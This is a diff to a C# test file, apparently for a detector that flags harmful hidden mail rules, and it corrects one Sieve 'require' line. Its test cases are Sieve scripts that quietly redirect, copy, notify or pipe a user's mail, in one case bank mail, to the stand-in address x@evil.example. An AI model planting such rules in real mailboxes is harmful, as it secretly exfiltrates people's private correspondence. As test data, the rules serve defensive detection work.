@@ -17,7 +17,7 @@ public sealed class HiddenRulesTests
     [InlineData(RuleHarm.Forward, "require \"copy\";\nif not header :contains \"from\" \"nobody\" {\n  if true { redirect :copy text:\nx@evil.example\n.\n; }\n}")]
     [InlineData(RuleHarm.Forward, "require \"enotify\"; notify :message \"new\" \"mailto:x@evil.example\";")]
     [InlineData(RuleHarm.Forward, "require [\"vnd.dovecot.pipe\",\"copy\"]; pipe :copy \"send-on\" [\"x\"];")]
-    [InlineData(RuleHarm.Forward, "require [\"copy\",\"mailbox\"]; if anyof (address :domain \"from\" \"bank.example\", size :over 1M) { fileinto \"Money\"; redirect :copy \"x@evil.example\"; }")]
+    [InlineData(RuleHarm.Forward, "require [\"copy\",\"fileinto\"]; if anyof (address :domain \"from\" \"bank.example\", size :over 1M) { fileinto \"Money\"; redirect :copy \"x@evil.example\"; }")]
     [InlineData(RuleHarm.Redirect, "if size :over 0 { redirect \"x@evil.example\"; }")]
     [InlineData(RuleHarm.Redirect, "if header :contains \"list-id\" \"news\" { redirect \"x@evil.example\"; }")]
     [InlineData(RuleHarm.Redirect, "if false { keep; } else { redirect \"x@evil.example\"; }")]
